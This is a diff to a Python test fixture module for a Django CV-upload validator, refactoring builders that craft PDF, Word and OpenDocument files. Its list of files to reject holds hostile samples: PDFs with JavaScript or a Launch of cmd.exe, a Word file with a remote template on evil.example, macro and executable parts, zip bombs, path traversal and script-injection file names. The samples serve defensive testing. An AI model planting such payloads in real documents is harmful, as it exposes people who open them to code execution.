@@ -5,35 +5,91 @@ import zipfile
 
 from django.core.files.uploadedfile import SimpleUploadedFile
 
-PDF = b"%PDF-1.7\n1 0 obj\n<<>>\nendobj\nxref\n0 1\ntrailer\n<<>>\nstartxref\n9\n%%EOF\n"
+CATALOG = b"<< /Type /Catalog /Pages 2 0 R >>"
+PAGES = b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>"
+PAGE = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>"
+
+
+def pdf(catalog=CATALOG, pages=PAGES, *more, trailer=b""):
+    """A PDF of these objects, a page for the third unless told otherwise, with a table that finds them."""
+    body, offsets = b"%PDF-1.7\n", []
+    for number, content in enumerate((catalog, pages, *(more or [PAGE])), 1):
+        offsets.append(len(body))
+        body += b"%d 0 obj\n%s\nendobj\n" % (number, content)
+    rows = b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
+    end = b"trailer\n<< /Size %d /Root 1 0 R %s >>\nstartxref\n%d\n%%%%EOF\n"
+    size = len(offsets) + 1
+    return body + b"xref\n0 %d\n0000000000 65535 f \n" % size + rows + end % (size, trailer, len(body))
+
+
+def active_pdf(entry):
+    """A PDF whose catalogue holds ``entry``."""
+    return pdf(CATALOG.replace(b">>", entry + b" >>"))
+
+
+PDF = pdf()
+HEAD = b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
+MAIN = b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
 CONTENT_TYPES = (
-    b'<Types><Override PartName="/word/document.xml" '
-    b'ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>'
+    HEAD + b'<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
+    b'<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
+    b'<Override PartName="/word/document.xml" ContentType="' + MAIN + b'"/></Types>'
 )
-REMOTE_TEMPLATE = (
-    b'<Relationships><Relationship Id="r" TargetMode="External" '
-    b'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
-    b'Target="http://evil.example/x.dotm"/></Relationships>'
+TEXT = (
+    HEAD + b'<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
+    b"<w:body><w:p><w:r><w:t>I want to learn.</w:t></w:r></w:p></w:body></w:document>"
 )
 ODT_TYPE = b"application/vnd.oasis.opendocument.text"
 
 
-def archive(**parts):
-    """A zip file; keyword names use ``__`` for a slash and ``_dot_`` for a dot."""
+def links(*triples):
+    """The relationships of a part: the last word of the type, the target, and whether it is elsewhere."""
+    office = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
+    rows = "".join(
+        f'<Relationship Id="r{number}" Type="{office}/{kind}" Target="{target}"'
+        + (' TargetMode="External"/>' if is_outside else "/>")
+        for number, (kind, target, is_outside) in enumerate(triples)
+    )
+    ns = "http://schemas.openxmlformats.org/package/2006/relationships"
+    return HEAD + f'<Relationships xmlns="{ns}">{rows}</Relationships>'.encode()
+
+
+def archive(parts):
+    """A zip file of ``parts``, contents by name."""
     buffer = io.BytesIO()
     with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as file:
         for name, content in parts.items():
-            file.writestr(name.replace("__", "/").replace("_dot_", "."), content)
+            file.writestr(name, content)
     return buffer.getvalue()
 
 
-def docx(**more):
-    parts = {"[Content_Types]_dot_xml": CONTENT_TYPES, "word__document_dot_xml": b"<w:document/>", **more}
-    return archive(**parts)
+def docx(more=()):
+    """A Word document; ``more`` are further parts, or others in place of its own."""
+    return archive(
+        {
+            "[Content_Types].xml": CONTENT_TYPES,
+            "_rels/.rels": links(("officeDocument", "word/document.xml", False)),
+            "word/document.xml": TEXT,
+            **dict(more),
+        }
+    )
 
 
-def odt(**more):
-    return archive(mimetype=ODT_TYPE, content_dot_xml=b"<office:document/>", **more)
+def odt(more=()):
+    """An OpenDocument text; ``more`` as for ``docx``."""
+    return archive({"mimetype": ODT_TYPE, "content.xml": odt_text(), **dict(more)})
+
+
+def odt_text(body=b"<text:p>I want to learn.</text:p>"):
+    office = b"urn:oasis:names:tc:opendocument:xmlns:"
+    names = b"".join(
+        b' xmlns:%s="%s%s:1.0"' % (name, office, name) for name in (b"office", b"text", b"script")
+    )
+    return (
+        HEAD + b"<office:document-content" + names + b' xmlns:draw="' + office + b'drawing:1.0"'
+        b' xmlns:meta="' + office + b'meta:1.0" xmlns:xlink="http://www.w3.org/1999/xlink">'
+        b"<office:body><office:text>" + body + b"</office:text></office:body></office:document-content>"
+    )
 
 
 def encrypted(content):
@@ -42,11 +98,6 @@ def encrypted(content):
     for signature, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
         content[content.rindex(signature) + offset] |= 1
     return bytes(content)
-
-
-def active_pdf(entry):
-    """A PDF whose catalogue holds ``entry``."""
-    return PDF.replace(b"<<>>\nendobj", b"<< /Type /Catalog " + entry + b" >>\nendobj", 1)
 
 
 def upload(content, name="cv.pdf", content_type="application/pdf"):
@@ -74,6 +125,8 @@ BAD_NAMES = {
     "<img src=x onerror=alert(1)>.pdf": "markup",
 }
 
+REMOTE_TEMPLATE = links(("attachedTemplate", "http://evil.example/x.dotm", True))
+
 #: Name and content of files that must never be taken as a CV in PDF or Word.
 BAD_FILES = {
     "empty": ("cv.pdf", b""),
@@ -90,18 +143,24 @@ BAD_FILES = {
     "old Word": ("cv.doc", b"\xd0\xcf\x11\xe0"),
     "ODT that is not allowed": ("cv.odt", odt()),
     "PDF that is called Word": ("cv.docx", PDF),
-    "zip that is called Word": ("cv.docx", archive(readme_dot_txt=b"hello")),
-    "Word with macros": ("cv.docx", docx(word__vbaProject_dot_bin=b"x")),
-    "Word with a program": ("cv.docx", docx(word__run_dot_exe=b"MZ")),
-    "Word without its text": ("cv.docx", archive(**{"[Content_Types]_dot_xml": CONTENT_TYPES})),
+    "zip that is called Word": ("cv.docx", archive({"readme.txt": b"hello"})),
+    "Word with macros": ("cv.docx", docx({"word/vbaProject.bin": b"x"})),
+    "Word with a program": ("cv.docx", docx({"word/run.exe": b"MZ"})),
+    "Word without its text": ("cv.docx", archive({"[Content_Types].xml": CONTENT_TYPES})),
     "spreadsheet that is called Word": (
         "cv.docx",
-        archive(**{"[Content_Types]_dot_xml": b"spreadsheetml", "word__document_dot_xml": b"x"}),
+        docx(
+            {
+                "[Content_Types].xml": CONTENT_TYPES.replace(
+                    b"wordprocessingml.document", b"spreadsheetml.sheet"
+                )
+            }
+        ),
     ),
     "Word cut in two": ("cv.docx", docx()[:100]),
     "Word under a password": ("cv.docx", encrypted(docx())),
-    "bomb": ("cv.docx", docx(word__media_dot_bin=b"\x00" * (101 * 1024 * 1024))),
-    "thousands of parts": ("cv.docx", docx(**{f"p{number}": b"" for number in range(2001)})),
+    "bomb": ("cv.docx", docx({"word/media/a.png": b"\x00" * (101 * 1024 * 1024)})),
+    "thousands of parts": ("cv.docx", docx({f"p{number}.xml": b"<p/>" for number in range(2001)})),
     "SVG that is called PDF": ("cv.pdf", b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>"),
     "picture and PDF in one": ("cv.pdf", b"\xff\xd8\xff\xe0JFIF" + PDF),
     "page before a PDF": ("cv.pdf", b"<!doctype html><script>alert(1)</script>" + PDF),
@@ -110,23 +169,13 @@ BAD_FILES = {
     "PDF that hides a script": ("cv.pdf", active_pdf(b"/AA << /O << /S /Java#53cript /JS (x) >> >>")),
     "PDF that starts a program": ("cv.pdf", active_pdf(b"/OpenAction << /S /Launch /F (cmd.exe) >>")),
     "PDF with another file in it": ("cv.pdf", active_pdf(b"/Names << /EmbeddedFiles 3 0 R >>")),
-    "Word with a remote template": (
-        "cv.docx",
-        docx(word___rels__settings_dot_xml_dot_rels=REMOTE_TEMPLATE),
-    ),
-    "Word that holds a program": ("cv.docx", docx(word__embeddings__oleObject1_dot_bin=b"MZ")),
-    "Word with a path out of it": ("cv.docx", docx(**{"../x": b"x"})),
+    "Word with a remote template": ("cv.docx", docx({"word/_rels/settings.xml.rels": REMOTE_TEMPLATE})),
+    "Word that holds a program": ("cv.docx", docx({"word/embeddings/oleObject1.bin": b"MZ"})),
+    "Word with a path out of it": ("cv.docx", docx({"../x.xml": b"<x/>"})),
     "Word of ten bytes": ("cv.docx", b"PK\x03\x04\x00\x00\x00\x00\x00\x00"),
     "Word with macros by its type": (
         "cv.docx",
-        archive(
-            **{
-                "[Content_Types]_dot_xml": CONTENT_TYPES.replace(
-                    b"document.main+xml", b"document.macroEnabled.main+xml"
-                ),
-                "word__document_dot_xml": b"<w:document/>",
-            }
-        ),
+        docx({"[Content_Types].xml": CONTENT_TYPES.replace(b"document.main", b"document.macroEnabled.main")}),
     ),
     "too large": ("cv.pdf", PDF + b"\x00" * (1024 * 1024) + PDF),
 }
